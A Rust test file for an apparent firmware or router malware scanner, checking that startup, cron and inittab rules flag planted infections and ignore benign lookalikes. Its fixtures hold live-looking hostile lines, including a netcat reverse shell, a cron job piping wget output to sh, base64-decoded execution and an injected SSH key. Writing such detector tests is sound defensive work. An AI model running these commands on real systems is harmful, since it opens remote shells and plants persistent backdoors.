//! Lines of startup files through the real binary: each check finds its own at file and line, and the healthy twin gives
//! nothing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::ffi::OsStr;

use scan::{Outcome, Tree, scan};

const CHECKS: &str = "startup-encoded,startup-backdoor,cron-odd,inittab-odd";

const PASSWD: &str = "root:x:0:0:root:/root:/bin/ash\nnobody:*:65534:65534:nobody:/var:/bin/false\n";

fn look(tree: &Tree) -> Outcome {
    let outcome =
        scan(["--only", CHECKS, "--root"].map(OsStr::new).into_iter().chain([tree.path().as_os_str()]));
    for check in CHECKS.split(',') {
        assert_eq!(outcome.looked(check), ("yes", ""), "{check}");
    }
    outcome
}

/// The findings as `check severity path line`.
fn found(tree: &Tree) -> Vec<String> {
    let word = |row: &serde_json::Value, key: &str| row[key].to_string().replace('"', "");
    let keys = ["check", "severity", "path", "line"];
    look(tree).findings.iter().map(|row| keys.map(|key| word(row, key)).join(" ")).collect()
}

#[test]
fn decoded_text_is_found_where_it_is_run() {
    let script = "#!/bin/sh\nF=/etc/x\nbase64 -d $F.b64 > $F\n\nsh \\\n  $F\n";
    let tree = Tree::healthy()
        .file("etc/rc.local", "# up\necho aGk= | base64 -d | sh\nexit 0\n")
        .file("etc/init.d/x", script)
        .file("etc/hotplug.d/iface/90-x", "printf '\\x7f\\x45\\x4c\\x46' > /tmp/upd\n");
    let mut findings = found(&tree);
    findings.sort();
    assert_eq!(
        findings,
        [
            "startup-encoded infected /etc/hotplug.d/iface/90-x 1",
            "startup-encoded infected /etc/init.d/x 5",
            "startup-encoded infected /etc/rc.local 2",
        ]
    );
    let twin = Tree::healthy()
        .file("etc/init.d/x", "F=/etc/ssl/x.pem\nbase64 -d $F.b64 > $F\nprintf '\\033[1mup\\033[0m\\n'\n")
        .file("etc/rc.local", "openssl enc -d -aes-256-cbc -in /etc/x -out /tmp/x.conf\nexit 0\n");
    assert_eq!(found(&twin), [""; 0]);
}

#[test]
fn doors_are_found_and_what_owners_open_is_not() {
    let tree = Tree::healthy()
        .file("etc/rc.local", "#!/bin/sh\n\nmkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc 192.0.2.1 443 >/tmp/f &\n")
        .file("etc/firewall.user", "iptables -I INPUT -p tcp -m multiport --dports 22,23 -j DROP\n")
        .file("etc/init.d/x", "K=/root/.ssh/authorized_keys\necho ssh-rsa AAAA >>$K\n");
    let mut findings = found(&tree);
    findings.sort();
    assert_eq!(
        findings,
        [
            "startup-backdoor infected /etc/rc.local 3",
            "startup-backdoor suspicious /etc/firewall.user 1",
            "startup-backdoor suspicious /etc/init.d/x 2",
        ]
    );
    let twin = Tree::healthy()
        .file("etc/rc.local", "nc -z 192.168.1.2 80 && echo nameserver 127.0.0.1 > /etc/resolv.conf\n")
        .file(
            "etc/firewall.user",
            "iptables -I INPUT -i br-guest -p tcp -m multiport --dports 22,80 -j REJECT\n\
             iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 192.168.1.2\n\
             iptables -I INPUT -p udp --dport 1194 -j ACCEPT\n",
        )
        .file("etc/init.d/dropbear", "stop() {\n\tkillall dropbear\n}\n");
    assert_eq!(found(&twin), [""; 0]);
}

#[test]
fn jobs_of_bots_and_of_owners() {
    let tree = Tree::healthy()
        .file("etc/passwd", PASSWD)
        .file(
            "etc/crontabs/root",
            "# m h\n* * * * * wget -qO- http://192.0.2.1/x|sh\n*/5 * * * * /var/run/x\n",
        )
        .file("etc/crontabs/mysql", "0 4 * * * /usr/bin/true\n1 4 * * * /usr/bin/true\n");
    let mut findings = found(&tree);
    findings.sort();
    assert_eq!(
        findings,
        [
            "cron-odd infected /etc/crontabs/root 2",
            "cron-odd suspicious /etc/crontabs/mysql 1",
            "cron-odd suspicious /etc/crontabs/root 3",
        ]
    );
    let twin = Tree::healthy().file("etc/passwd", PASSWD).file(
        "etc/crontabs/root",
        "* * * * * /root/ping.sh >/tmp/ping.log\n*/1 * * * * /etc/init.d/x reload\n0 4 * * * reboot\n",
    );
    assert_eq!(found(&twin), [""; 0]);
    let unknown = Tree::healthy().file("etc/crontabs/mysql", "0 4 * * * /usr/bin/true\n");
    assert_eq!(found(&unknown), [""; 0], "nobody knows the users");
}

#[test]
fn inittab_is_held_against_the_image() {
    let own = "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n";
    let edited = format!("{own}ttyS0::askfirst:/usr/libexec/login.sh\n::respawn:/usr/bin/x -d\n");
    let image = || Tree::healthy().file("rom/etc/inittab", own).file("rom/etc/rc.local", "exit 0\n");
    assert_eq!(found(&image().file("etc/inittab", own)), [""; 0]);
    assert_eq!(found(&image().file("etc/inittab", &edited)), ["inittab-odd suspicious /etc/inittab 4"]);
    assert_eq!(found(&Tree::healthy().file("etc/inittab", &edited)), [""; 0], "no image to compare with");
    let odd = format!("{own}::respawn:/tmp/x\n");
    assert_eq!(found(&Tree::healthy().file("etc/inittab", odd)), ["inittab-odd suspicious /etc/inittab 3"]);
}
